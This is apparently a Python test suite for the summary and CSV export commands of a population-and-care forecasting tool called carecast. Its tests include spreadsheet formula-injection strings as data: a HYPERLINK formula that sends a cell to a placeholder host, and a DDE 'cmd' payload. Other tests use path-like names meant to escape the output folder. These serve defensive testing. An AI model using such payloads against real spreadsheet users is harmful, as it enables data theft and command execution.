"""`carecast summary` and `carecast export` (issue 12, items 3 and 4).

summary --json must parse with `/usr/bin/python3 -m json.tool` and each of its numbers must be the
dataset element it names (read here with h5py), and be the right element: the median (quantile
0.5) with the 5th and 95th percentiles as its band, in the year its column says. export must
write one CSV per summary dataset (every dataset but /provenance, the axes and per-replication
arrays) whose rows, read with the csv module, equal the dataset value by value, also with
--excel (BOM, CRLF). Files come from carecast run, capacity and sensitivity (tests/summary_testlib.py),
one without /coverage, and one whose scenario name is hostile.
"""
import csv
import json
import math
import os
import re
import subprocess
import tempfile
import unittest

import carecast_testlib as T
import summary_testlib as S

try:
    import h5py
    import numpy as np
except ImportError:  # pragma: no cover
    h5py = None


def summary_datasets(f):
    """{path: dataset} of what export must write, by the documented rule, found with h5py."""
    found = {}

    def visit(name, obj):
        if not isinstance(obj, h5py.Dataset) or name.startswith("provenance"):
            return
        if obj.attrs.get("CLASS") in (b"DIMENSION_SCALE", "DIMENSION_SCALE"):
            return
        if any(d.label in ("replication", "coverage_replication") for d in obj.dims):
            return
        found["/" + name] = obj

    f.visititems(visit)
    # h5py's visititems lists a dataset with several names once; the layout has none such outside /axes
    return found


def as_text(v):
    return v.decode("utf-8") if isinstance(v, bytes) else str(v)


def cell_text(text, excel):
    """What export writes for a text value: as it is, or for a spreadsheet (--excel) with a
    leading apostrophe when it starts with a character that would make it a formula."""
    return "'" + text if excel and text[:1] in ("=", "+", "-", "@", "\t", "\r") else text


def axis_values(ds, i):
    """The scale values of dimension i (text or numbers), or None when it has no scale."""
    if len(ds.dims[i]) == 0:
        return None
    return list(ds.dims[i][0][()])


def axis_name(ds, i):
    """The CSV column of dimension i: its label, else its scale's name, else axis<i>."""
    if ds.dims[i].label:
        return ds.dims[i].label
    if len(ds.dims[i]):
        return ds.dims[i][0].name.rsplit("/", 1)[-1]
    return "axis%d" % i


def number_equal(text, expected):
    """A CSV number field against a float: '' is NaN, otherwise exact (round trip)."""
    if isinstance(expected, float) and math.isnan(expected):
        return text == ""
    return float(text) == float(expected)


def select(values, at):
    """values at JSON positions: an int per axis, or [from, to] to sum over (inclusive)."""
    index = tuple(slice(a[0], a[1] + 1) if isinstance(a, list) else a for a in at)
    picked = values[index]
    return float(np.sum(picked)) if np.ndim(picked) else float(picked)


@unittest.skipIf(h5py is None, "h5py/numpy not installed")
@T.require_binary
class SummaryJsonTest(unittest.TestCase):
    @classmethod
    def setUpClass(cls):
        cls.files = {"run": S.run_file(), "capacity": S.capacity_file(), "sensitivity": S.sensitivity_file(),
                     "nocov": S.no_coverage_file(), "hostile": S.hostile_file()}
        cls.tmp = tempfile.mkdtemp(prefix="summary-json-", dir=T.session_folder())
        cls.json = {}
        for name, path in cls.files.items():
            out = os.path.join(cls.tmp, name + ".json")
            with open(out, "w") as f:
                r = subprocess.run([T.carecast_bin(), "summary", "--json", path], stdout=f, stderr=subprocess.PIPE,
                                   text=True, cwd=cls.tmp)
            assert r.returncode == 0, r.stderr
            cls.json[name] = out

    def load(self, name):
        with open(self.json[name], encoding="utf-8") as f:
            return json.load(f)

    def test_json_tool_parses_every_summary(self):
        for name, out in self.json.items():
            with self.subTest(file=name):
                r = subprocess.run(["/usr/bin/python3", "-m", "json.tool", out], capture_output=True, text=True)
                self.assertEqual(r.returncode, 0, r.stderr)

    def test_every_number_is_the_element_it_names(self):
        for name, path in self.files.items():
            summary = self.load(name)
            checked = 0
            with h5py.File(path, "r") as f:
                for table in summary["tables"]:
                    for row in table["rows"]:
                        for cell in row["cells"]:
                            if "dataset" not in cell:
                                continue
                            values = f[cell["dataset"]][()]
                            for part in ("value", "lo", "hi"):
                                if part not in cell["at"]:
                                    continue
                                want = select(values, cell["at"][part])
                                got = cell[part]
                                with self.subTest(file=name, table=table["id"], row=row["label"], part=part):
                                    if math.isnan(want):
                                        self.assertIsNone(got, "NaN is null")
                                    elif any(isinstance(a, list) for a in cell["at"][part]):
                                        self.assertAlmostEqual(got, want, delta=1e-9 * abs(want))
                                    else:
                                        self.assertEqual(got, want)
                                checked += 1
            self.assertGreater(checked, 10, "%s: the summary holds numbers" % name)

    def test_bands_are_the_5th_50th_and_95th_percentiles_of_the_named_year(self):
        summary = self.load("run")
        with h5py.File(self.files["run"], "r") as f:
            for table in summary["tables"]:
                for row in table["rows"]:
                    for column, cell in zip(table["columns"], row["cells"]):
                        if "lo" not in cell.get("at", {}):
                            continue
                        ds = f[cell["dataset"]]
                        labels = [d.label for d in ds.dims]
                        q = labels.index("quantile")
                        quantiles = axis_values(ds, q)
                        with self.subTest(table=table["id"], row=row["label"], column=column):
                            self.assertEqual(quantiles[cell["at"]["value"][q]], 0.5)
                            self.assertEqual(quantiles[cell["at"]["lo"][q]], 0.05)
                            self.assertEqual(quantiles[cell["at"]["hi"][q]], 0.95)
                            if "year" in labels:
                                y = labels.index("year")
                                self.assertEqual(str(int(axis_values(ds, y)[cell["at"]["value"][y]])), column)
                            if "sex" in labels:
                                s = labels.index("sex")
                                self.assertEqual(as_text(axis_values(ds, s)[cell["at"]["value"][s]]), "total")

    def test_headline_tables_of_each_kind(self):
        run = {t["id"]: t for t in self.load("run")["tables"]}
        self.assertEqual(set(run), {"population", "demand", "coverage_2030"})
        self.assertEqual([r["label"].split(" (")[0] for r in run["population"]["rows"]],
                         ["population", "aged 65+", "aged 75+", "aged 85+"])
        self.assertEqual(run["population"]["columns"], ["base 2025-01-01", "2030", "2040", "2050"])
        self.assertEqual(len(run["coverage_2030"]["rows"]), 4, "one row per scheme")
        self.assertTrue(run["coverage_2030"]["rows"][0]["label"].startswith("pairing"), "the reference scheme first")
        with h5py.File(self.files["run"], "r") as f:
            base = f["population/base"][0, 2, :].sum()
        self.assertAlmostEqual(run["population"]["rows"][0]["cells"][0]["value"], base, delta=1e-6)
        self.assertIsNone(run["population"]["rows"][0]["cells"][0].get("lo"), "the base date has no band")

        capacity = self.load("capacity")
        self.assertEqual([t["id"] for t in capacity["tables"]], ["capacity_2030"])
        solo = [r for r in capacity["tables"][0]["rows"] if r["label"].startswith("solo")][0]
        self.assertIsNone(solo["cells"][0]["value"], "solo is never attainable: NaN, written as null")

        sensitivity = self.load("sensitivity")
        beds = [t for t in sensitivity["tables"] if t["id"] == "sensitivity_beds_needed_2040"][0]
        self.assertEqual(beds["rows"][0]["label"], "demand.occupancy", "occupancy moves beds needed most")
        self.assertEqual(sensitivity["scenarios"], ["kashiwa"])

    def test_absent_stages_are_named(self):
        nocov = self.load("nocov")
        self.assertTrue(any(a.startswith("no /coverage") for a in nocov["absent"]), nocov["absent"])
        self.assertNotIn("coverage_2030", [t["id"] for t in nocov["tables"]])
        capacity = self.load("capacity")
        for stage in ("/population", "/demand", "/coverage", "/sensitivity"):
            self.assertTrue(any(a.startswith("no " + stage) for a in capacity["absent"]), stage)
        text = T.run(["summary", self.files["nocov"]])
        self.assertEqual(text.returncode, 0, text.stderr)
        self.assertIn("Not in this file:\nno /coverage", text.stdout)

    def test_assumptions_come_from_provenance(self):
        keys = {(k["section"], k["key"]): k for k in self.load("run")["assumptions"]}
        self.assertEqual(keys[("demand", "trend_damping")]["basis"], "assumption")
        self.assertEqual(keys[("demand", "trend_damping")]["value"], "0.9")
        self.assertEqual(keys[("coverage", "replications")]["basis"], "command line")
        self.assertEqual(keys[("mortality", "target_e0_female")]["basis"], "source")
        self.assertNotIn(("demand", "inpatient_rates"), keys, "table paths are sources, not listed")

    def test_text_summary_shows_the_json_numbers(self):
        summary = self.load("run")
        out = T.run(["summary", self.files["run"]])
        self.assertEqual(out.returncode, 0, out.stderr)
        pop2030 = summary["tables"][0]["rows"][0]["cells"][1]
        self.assertIn("{:,.0f} ({:,.0f}-{:,.0f})".format(pop2030["value"], pop2030["lo"], pop2030["hi"]), out.stdout)
        self.assertIn("seed 20250101", out.stdout)

    def test_hostile_name_is_escaped_in_json_and_text(self):
        summary = self.load("hostile")
        self.assertEqual(summary["scenarios"], [S.HOSTILE], "the name round-trips through JSON exactly")
        self.assertEqual(summary["tables"][0]["scenario"], S.HOSTILE)
        with open(self.json["hostile"], "rb") as f:
            raw = f.read()
        self.assertNotIn(b"\t", raw.split(b'"scenarios"')[1].split(b"]")[0], "control characters are escaped")
        text = T.run(["summary", self.files["hostile"]])
        self.assertEqual(text.returncode, 0, text.stderr)
        first = text.stdout.splitlines()[0]
        self.assertIn("& c?second line???", first, "control characters shown as '?': the name stays on one line")
        self.assertEqual(S.pwned_anywhere(self.tmp), [])

    def test_unreadable_file_is_input_error(self):
        bad = os.path.join(self.tmp, "not.h5")
        with open(bad, "w") as f:
            f.write("not hdf5\n")
        r = T.run(["summary", bad])
        self.assertEqual(r.returncode, T.EXIT_INPUT, r.stderr)
        self.assertEqual(len(r.stderr.strip().splitlines()), 1, r.stderr)
        self.assertEqual(T.run(["summary"]).returncode, T.EXIT_USAGE)


@unittest.skipIf(h5py is None, "h5py/numpy not installed")
@T.require_binary
class ExportTest(unittest.TestCase):
    @classmethod
    def setUpClass(cls):
        cls.tmp = tempfile.mkdtemp(prefix="export-", dir=T.session_folder())

    def export(self, path, *options):
        out = tempfile.mkdtemp(prefix="csv-", dir=self.tmp)
        r = T.run(["export", path, "-o", out] + list(options), cwd=self.tmp)
        self.assertEqual(r.returncode, 0, r.stderr)
        return out

    def check_export(self, path, out, excel=False):
        """Every summary dataset has its file, listed in index.csv, equal value by value."""
        encoding = "utf-8-sig" if excel else "utf-8"
        with open(os.path.join(out, "index.csv"), newline="", encoding=encoding) as f:
            index = {row["dataset"]: row for row in csv.DictReader(f)}
        files = sorted(os.listdir(out))
        self.assertEqual(sorted([row["file"] for row in index.values()] + ["index.csv"]), files,
                         "index.csv lists every file, and nothing else is there (no temporary file)")
        with h5py.File(path, "r") as f:
            wanted = summary_datasets(f)
            self.assertEqual(set(index), set(wanted), "one file per summary dataset")
            for name, ds in wanted.items():
                with self.subTest(dataset=name):
                    self.check_file(os.path.join(out, index[name]["file"]), ds, excel)
                    self.assertEqual(index[name]["units"], cell_text(as_text(ds.attrs.get("units", "")), excel))
        return index

    def check_file(self, file, ds, excel):
        with open(file, "rb") as f:
            raw = f.read()
        outside_quotes = re.sub(rb'"(?:[^"]|"")*"', b"", raw)  # a quoted field keeps its own newlines
        if excel:
            self.assertTrue(raw.startswith(b"\xef\xbb\xbf"), "byte-order mark")
            self.assertTrue(raw.endswith(b"\r\n"))
            self.assertIsNone(re.search(rb"[^\r]\n", outside_quotes), "every line ends with CRLF")
        else:
            self.assertFalse(raw.startswith(b"\xef\xbb\xbf"))
            self.assertTrue(raw.endswith(b"\n"))
            self.assertNotIn(b"\r", outside_quotes, "plain LF line ends")
        with open(file, newline="", encoding="utf-8-sig" if excel else "utf-8") as f:
            rows = list(csv.reader(f))
        header, body = rows[0], rows[1:]
        self.assertEqual(header, [axis_name(ds, i) for i in range(ds.ndim)] + ["value"])
        values = ds[()]
        self.assertEqual(len(body), values.size)
        scales = [axis_values(ds, i) for i in range(ds.ndim)]
        for k, (row, at) in enumerate(zip(body, np.ndindex(*values.shape) if values.ndim else [()])):
            for i, pos in enumerate(at):
                if scales[i] is None:
                    self.assertEqual(row[i], str(pos))
                elif isinstance(scales[i][pos], (bytes, str)):
                    self.assertEqual(row[i], cell_text(as_text(scales[i][pos]), excel))
                else:
                    self.assertTrue(number_equal(row[i], float(scales[i][pos])), (row, at))
            v = values[at]
            if isinstance(v, (bytes, str)):
                self.assertEqual(row[-1], cell_text(as_text(v), excel))
            else:
                self.assertTrue(number_equal(row[-1], float(v)), "%s row %d: %r != %r" % (ds.name, k, row[-1], v))

    def test_run_file_exports_equal_the_datasets(self):
        path = S.run_file()
        index = self.check_export(path, self.export(path))
        self.assertIn("/population/total/quantiles", index)
        self.assertEqual(index["/population/total/quantiles"]["file"], "population.total.quantiles.csv")
        self.assertNotIn("/population/total/replications", index, "per-replication arrays are left out")

    def test_excel_export_has_bom_and_crlf_and_equal_values(self):
        path = S.run_file()
        self.check_export(path, self.export(path, "--excel"), excel=True)

    def test_capacity_and_sensitivity_exports(self):
        for path in (S.capacity_file(), S.sensitivity_file()):
            with self.subTest(file=os.path.basename(path)):
                index = self.check_export(path, self.export(path))
                self.assertGreater(len(index), 5)

    def test_hostile_name_is_quoted_in_every_csv(self):
        path = S.hostile_file()
        out = self.export(path)
        self.check_export(path, out)
        self.check_export(path, self.export(path, "--excel"), excel=True)
        with open(os.path.join(out, "population.total.mean.csv"), newline="", encoding="utf-8") as f:
            rows = list(csv.reader(f))
        self.assertEqual(rows[1][0], S.HOSTILE, "the name, commas, quotes and newlines included, reads back whole")
        for name in os.listdir(out):
            self.assertRegex(name, r"^[A-Za-z0-9_-][A-Za-z0-9_.-]*\.csv$", "a safe file name")
        self.assertEqual(S.pwned_anywhere(out, self.tmp), [])

    def test_formula_names_are_text_in_a_spreadsheet_export(self):
        """A scenario named like a formula (=HYPERLINK..., +cmd, -1+1, @SUM) is written with a
        leading apostrophe for a spreadsheet, so opening the CSV runs nothing; the plain export
        keeps the name exactly."""
        names = ['=HYPERLINK("http://example.invalid/?"&A1,"click")', "+cmd|' /C calc'!A0", "-1+1", "@SUM(A1:A9)",
                 "\t=1+1", "normal name"]
        crafted = os.path.join(self.tmp, "formula.h5")
        with h5py.File(crafted, "w") as f:
            scale = f.create_dataset("scenario", data=np.array([n.encode() for n in names], dtype=h5py.string_dtype()))
            scale.make_scale("scenario")
            data = f.create_dataset("population/total/mean", data=np.arange(len(names), dtype=float))
            data.dims[0].attach_scale(scale)
        for excel in (False, True):
            with self.subTest(excel=excel):
                out = self.export(crafted, *(["--excel"] if excel else []))
                with open(os.path.join(out, "population.total.mean.csv"), newline="",
                          encoding="utf-8-sig" if excel else "utf-8") as f:
                    rows = list(csv.reader(f))[1:]
                got = [r[0] for r in rows]
                if excel:
                    self.assertEqual(got, ["'" + n for n in names[:5]] + ["normal name"])
                else:
                    self.assertEqual(got, names, "the plain export keeps the names exactly")

    def test_file_names_of_a_crafted_file_stay_inside_the_folder(self):
        crafted = os.path.join(self.tmp, "crafted.h5")
        with h5py.File(crafted, "w") as f:
            for group in ("...", "a b", "x\ny", "柏市", "-rf", "index.csv", "z" * 300, ".hidden", "a,b\"c"):
                f.create_dataset("%s/data" % group, data=np.arange(3.0))
            f.create_dataset("index", data=np.array([1.5, float("nan"), float("inf")]))
        parent = os.path.dirname(self.tmp)
        before = set(os.listdir(parent))
        out = self.export(crafted)
        self.assertEqual(set(os.listdir(parent)), before, "nothing written outside the folder")
        index = self.check_export(crafted, out)
        self.assertEqual(len(set(row["file"] for row in index.values())), len(index), "one name per dataset")
        for name in os.listdir(out):
            self.assertRegex(name, r"^[A-Za-z0-9_-][A-Za-z0-9_.-]*\.csv$")
            self.assertLessEqual(len(name), 255)
        with open(os.path.join(out, index["/index"]["file"]), newline="") as f:
            self.assertEqual([r[1] for r in csv.reader(f)][1:], ["1.5", "", "inf"], "NaN empty, inf spelled")

    def test_existing_files_are_replaced_whole_or_left_alone(self):
        path = S.run_file()
        out = tempfile.mkdtemp(prefix="csv-", dir=self.tmp)
        target = os.path.join(out, "population.total.mean.csv")
        with open(target, "wb") as f:
            f.write(T.EXISTING_BYTES)
        self.assertEqual(T.run(["export", path, "-o", out]).returncode, 0)
        with open(target, "rb") as f:
            self.assertTrue(f.read().startswith(b"scenario,year,sex,value\n"), "replaced whole")
        if not T.can_drop_privileges():
            self.skipTest("needs root and setpriv to make the folder unwritable for the export")
        with open(target, "wb") as f:
            f.write(T.EXISTING_BYTES)
        os.chmod(out, 0o755)
        for folder in (self.tmp, os.path.dirname(self.tmp), T.session_folder()):
            os.chmod(folder, os.stat(folder).st_mode | 0o055)
        os.chmod(path, 0o644)
        r = T.run(["export", path, "-o", out], as_nobody=True)
        self.assertEqual(r.returncode, T.EXIT_RUN_FAILED, r.stderr)
        self.assertIn("left as it was", r.stderr)
        with open(target, "rb") as f:
            self.assertEqual(f.read(), T.EXISTING_BYTES, "a failed export leaves the file as it was")
        self.assertEqual([n for n in os.listdir(out) if "tmp" in n], [], "no temporary file left")


if __name__ == "__main__":
    unittest.main()
